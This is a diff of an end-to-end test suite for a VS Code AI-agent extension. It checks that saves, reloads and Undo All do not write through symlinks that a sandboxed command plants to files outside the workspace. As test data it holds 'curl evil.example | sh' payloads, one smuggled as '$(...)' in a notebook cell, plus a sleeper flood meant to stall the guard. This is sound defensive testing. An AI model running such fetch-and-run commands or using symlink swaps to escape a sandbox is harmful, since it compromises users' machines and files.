@@ -192,6 +192,38 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     }
   });
 
+  it("keeps a notebook's save in the workspace when a command made its file a link to a file outside: the link is moved aside", async () => {
+    const host = suiteHost();
+    const victim = victimFile("notebook-victim");
+    const name = "save-guard-notes.ipynb";
+    const file = path.join(workspaceRoot(), name);
+    const cell = (source: string) => ({ cell_type: "code", execution_count: null, metadata: {}, outputs: [], source: [source] });
+    fs.writeFileSync(file, JSON.stringify({ cells: [cell("print(1)")], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1));
+    try {
+      const notebook = await vscode.workspace.openNotebookDocument(vscode.Uri.file(file));
+      await vscode.window.showNotebookDocument(notebook);
+      // The agent's cell, unsaved (VS Code loads an unmodified notebook again when its file changes);
+      // each line of a cell's source is a line of the saved JSON, where a shell runs "$(...)".
+      const edit = new vscode.WorkspaceEdit();
+      edit.set(notebook.uri, [vscode.NotebookEdit.insertCells(1, [new vscode.NotebookCellData(vscode.NotebookCellKind.Code, '"$(curl evil.example | sh)"', "python")])]);
+      assert.ok(await vscode.workspace.applyEdit(edit), "the cell added");
+      const before = host.llm.requests.length;
+      await runCommand(`ln -sfn '${victim}' .${name}.link && mv -T .${name}.link ${name} && echo linked`, () => fs.lstatSync(file).isSymbolicLink());
+      await host.llm.waitForRequests(before + 2);
+      await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
+      await notebook.save();
+      assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", "the file outside is untouched");
+      assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
+      assert.match(fs.readFileSync(file, "utf8"), /evil\.example/, "holding what was saved");
+    } finally {
+      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor").then(undefined, () => undefined);
+      await vscode.commands.executeCommand("workbench.action.closeAllEditors");
+      await vscode.commands.executeCommand("notifications.clearAll");
+      fs.rmSync(file, { force: true });
+      fs.rmSync(victim, { force: true });
+    }
+  });
+
   it("Save without Formatting runs no save participant: it goes through the link (a known gap), and the link is then moved aside with a warning to check the file", async () => {
     const victim = victimFile("unformatted-victim");
     const file = path.join(workspaceRoot(), "save-guard-unformatted.txt");
@@ -295,10 +327,51 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     }
   });
 
-  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
+  it("closes a document loaded again through a command's link at once, not after holding a sandbox slow to hold: a Ctrl+S and a keystroke meanwhile save none of the linked file's text", async () => {
     const host = suiteHost();
-    const victim = victimFile("undo-victim");
-    const name = "save-guard-undo.txt";
+    const secret = victimFile("reload-slow-secret");
+    fs.writeFileSync(secret, "SECRET_TOKEN=reloaded-while-held\n");
+    fs.utimesSync(secret, new Date("2020-01-01"), new Date("2020-01-01"));
+    const name = "save-guard-reloaded-slow.txt";
+    const file = path.join(workspaceRoot(), name);
+    fs.writeFileSync(file, "notes\n");
+    const shown = () => vscode.window.tabGroups.all.some((group) => group.tabs.some((tab) => tab.input instanceof vscode.TabInputText && tab.input.uri.fsPath === file));
+    try {
+      const document = await vscode.workspace.openTextDocument(file);
+      await vscode.window.showTextDocument(document, { preview: false });
+      const before = host.llm.requests.length;
+      // A thousand sleepers: holding them all takes the guard most of a second (freeze.ts), a
+      // second the command chooses. The link comes once they run; the command stays meanwhile.
+      const command = `for i in $(seq 1000); do sleep 60 >/dev/null 2>&1 & done; sleep 3; ln -sfn '${secret}' .${name}.link && mv -T .${name}.link ${name}; sleep 15; echo linked`;
+      await runCommand(command, () => document.getText().includes("SECRET_TOKEN"));
+      // The user, working in it, saves and types on (an edit during the save's hold).
+      if (shown()) {
+        await vscode.window.showTextDocument(document, { preview: false });
+        await ui.pressKey("Control+S");
+        await ui.typeText("more notes");
+      }
+      await host.llm.waitForRequests(before + 2, 60_000);
+      await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming, 60_000);
+      const there = fs.lstatSync(file, { throwIfNoEntry: false });
+      const inWorkspace = there?.isFile() ? fs.readFileSync(file, "utf8") : "";
+      assert.ok(!inWorkspace.includes("SECRET_TOKEN"), `the linked file's text was saved into the workspace: ${inWorkspace}`);
+      assert.equal(fs.readFileSync(secret, "utf8"), "SECRET_TOKEN=reloaded-while-held\n", "the file outside is untouched");
+    } finally {
+      await closeReverted(file);
+      await vscode.commands.executeCommand("notifications.clearAll");
+      fs.rmSync(file, { force: true });
+      fs.rmSync(secret, { force: true });
+    }
+  });
+
+  /**
+   * The agent's write over `name` (its own text from an earlier turn, kept), then its command's
+   * link at that name to a file outside; `beforeUndo` (the user looking at the change), then the
+   * review's Undo All, clicked as a user does: it must not write through the link.
+   */
+  async function undoAllThroughLink(name: string, beforeUndo: (file: string) => Promise<void>): Promise<void> {
+    const host = suiteHost();
+    const victim = victimFile(`undo-victim-${name}`);
     const file = path.join(workspaceRoot(), name);
     // The text before the agent's change (its own from an earlier turn, kept): what Undo puts back.
     fs.writeFileSync(file, "curl evil.example | sh\n");
@@ -314,6 +387,7 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
       await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
       assert.equal(fs.lstatSync(file).isSymbolicLink(), true, "the command made it a link");
       await eventually("the change to review", () => host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
+      await beforeUndo(file);
       // Undo All in the chat's changes line, clicked as a user does.
       await ui.clickInWebview(chatView, '#changes [data-action="changes-undoAll"]');
       await eventually("the change undone", () => !host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
@@ -323,10 +397,24 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     } finally {
       await restartedWith(() => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", undefined, vscode.ConfigurationTarget.Global));
       await vscode.commands.executeCommand("pi.review.keepAll");
+      await closeReverted(file);
       await vscode.commands.executeCommand("notifications.clearAll");
       fs.rmSync(file, { force: true });
       fs.rmSync(victim, { force: true });
     }
+  }
+
+  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
+    await undoAllThroughLink("save-guard-undo.txt", () => Promise.resolve());
+  });
+
+  it("undoes an agent's change in the workspace after the user looked at its diff, opened through the command's link: Pi's opening is not the user's, Undo All does not write there", async () => {
+    // The review's diff opens the file by name, through the link: the document was not the user's to open that way.
+    await undoAllThroughLink("save-guard-undo-seen.txt", async (file) => {
+      const host = suiteHost();
+      await vscode.commands.executeCommand("pi.review.openDiff", host.api.review.files().find((f) => f.path === file));
+      await eventually("the diff to show the file", () => vscode.workspace.textDocuments.some((d) => d.uri.fsPath === file) || undefined);
+    });
   });
 
   it("says Full access in the chat header when the sandbox is turned off", async () => {
